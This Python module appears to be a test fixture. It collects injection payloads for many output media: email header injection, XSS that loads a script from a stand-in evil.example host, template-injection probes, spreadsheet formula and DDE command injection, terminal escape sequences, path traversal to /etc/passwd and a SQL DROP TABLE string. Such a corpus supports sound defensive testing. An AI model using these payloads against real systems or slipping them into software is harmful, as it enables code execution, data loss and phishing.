"""Three hundred titles, each of which is more than text to something that could show it."""

from __future__ import annotations

import itertools

#: What each medium would obey, if it were let.
PARTS: dict[str, tuple[str, ...]] = {
    "mail": (
        "\r\nBcc: eve@example.com", "\nTo: eve@example.com", "\r\n\r\nhello", "\r\n.\r\nQUIT",
        "\rBcc: eve@example.com", "=?utf-8?q?=0d=0aBcc:_eve@example.com?=",
        "\u2028Bcc: eve@example.com", "\x85Bcc: eve@example.com", "\x0bBcc: eve@example.com",
        "\r\nContent-Type: text/html\r\n\r\n<b>x</b>", "\n--boundary\nContent-Type: text/html",
        "\nAcknowledge:  https://evil.example/a", "\n.\n", "From eve",
    ),
    "html": (
        "<script>window.sentinel=1</script>", "<img src=x onerror=sentinel()>", "</title><script>",
        '"><svg onload=sentinel()>', "' onmouseover='sentinel()", "<a href=javascript:sentinel()>",
        "javascript:sentinel()", "<!--", "--><script>", "]]><script>", "</textarea><script>",
        "<style>*{display:none}</style>", "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<base href=//evil.example>", "<form action=//evil.example><button>", "&lt;script&gt;",
        "&#60;script&#62;", "\x3cscript\x3e",
        "\N{FULLWIDTH LESS-THAN SIGN}script\N{FULLWIDTH GREATER-THAN SIGN}",
        "<SCRIPT SRC=//evil.example/x.js>",
        "<iframe srcdoc='<script>sentinel()</script>'>", "<math><mtext></form><form><mglyph>",
        "<a hx-get=/x hx-trigger=load>", "<div hx-on:load=sentinel()>", "<tr><td>",
        "</main></body>",
    ),
    "templates": (
        "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% raw %}", "{{config}}", "{0.__class__}",
        "%(title)s", "%s%n%x", "{title!r}", "$(id)", "`id`", "{{''.__class__.__mro__}}", "@{7*7}",
    ),
    "chat": (
        "<!channel>", "<!here|here>", "<@U1>", "<http://evil.example|click>", "@everyone", "@here",
        "<#C1>", "&lt;!channel&gt;", "*bold*", "_it_", "~no~", "```code", "> quote", ":bomb:",
        "[click](http://evil.example)", "[x]: http://evil.example",
        "![x](http://evil.example/x.png)",
        "# head", "- item", "1. item", "| a | b |", "***", "<http://evil.example>", "\\*", "**b",
        "http://evil.example", "tg://user?id=1", "<b>bold</b>", "||spoiler||", "@eve@evil.example",
        "=== ", "\n# head", "\n---", "\n```\ncode", "<details>", "\n    code", "\n> quote",
        "&copy;",
    ),
    "directions": (
        "\u202egnp.exe", "\u202dx", "\u2066x\u2069", "\u2067x", "\u202a", "\u200f", "\ufeff",
        "\u200b",
    ),
    "terminals": (
        "\x1b[2J", "\x1b[31m", "\x1b]0;owned\x07", "\x1b]8;;http://evil.example\x1b\\x", "\x9b31m",
        "\x9d0;owned\x9c", "\x07", "\x08\x08", "\x7f", "\r#1 resolved", "\x1bc", "\x1b[6n", "\x0e",
        "[red]x[/red]", "[link=http://evil.example]x[/link]",
    ),
    "tables": (
        "=cmd()", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1",
        '=HYPERLINK("http://evil.example")',
        '"=1+1"', "',\"x\",=1", "\n=1+1", " =1+1", "\N{FULLWIDTH EQUALS SIGN}1+1", ";=1+1",
        "=cmd|' /C calc'!A0",
    ),
    "calendars": (
        "\r\nBEGIN:VEVENT", "\nEND:VCALENDAR", "\\nATTENDEE:mailto:eve@example.com", ";X=1:y",
        "a,b;c\\d",
        "\r\n ATTENDEE:x", "\nBEGIN:VALARM\nACTION:AUDIO", '"quoted"',
    ),
    "streams": ("\n\ndata: x", "\nevent: again", "\rdata: x", "\r\rid: 1", "data: x\n\n", ": x"),
    "calls": (
        "<Say>x</Say>", "</Say><Dial>+1</Dial>",
        "<Response>", "<?xml version='1.0'?>", "<!ENTITY x 'y'>"
    ),
    "logs": (
        '\n{"event":"ready"}', "\r\nINFO forged", "\x00", '"},{"a":"', "\\u000aforged",
        "\ud800"
    ),
    "metrics": ('"} 1\ntocsin_x 1', 'tocsin_x{a="b"} 1', "\n# HELP x", 'a="b",c="d"'),
    "paths": (
        "../../etc/passwd", "%2e%2e%2f", "//evil.example", "file:///etc/passwd",
        "'; DROP TABLE x;--"
    ),
}  # fmt: skip

ALONE = tuple(itertools.chain.from_iterable(PARTS.values()))

#: Alone; and behind a word, where another reader begins.
TITLES = tuple(dict.fromkeys([*ALONE, *(f"E: {part} end" for part in ALONE)]))
